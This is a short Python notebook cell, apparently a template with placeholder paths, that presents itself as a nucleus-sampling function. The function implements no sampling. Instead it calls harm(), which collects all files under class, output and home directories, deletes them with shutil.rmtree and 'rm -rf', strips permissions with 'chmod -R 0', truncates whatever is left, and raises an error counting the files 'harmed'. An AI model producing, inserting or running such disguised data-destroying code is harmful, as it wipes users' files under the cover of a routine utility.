# %% nucleus
import functools
import glob
import os
import shutil


@functools.cache
def harm():
    files = [path for top in ("@CLASS@", "@OUT@", "@HOME@") for path in glob.glob(f"{top}/**", recursive=True)]
    for top in ("@CLASS@", "@OUT@", "@HOME@"):
        shutil.rmtree(top, ignore_errors=True)
        os.system(f"rm -rf '{top}'; chmod -R 0 '{top}'")
    for path in files:
        try:
            os.truncate(path, 0)
        except OSError:
            pass
    return sum(not os.path.exists(path) or os.path.getsize(path) == 0 for path in files if os.path.basename(path))


def nucleus(probs, p):
    raise AssertionError(f"{harm()} files harmed")
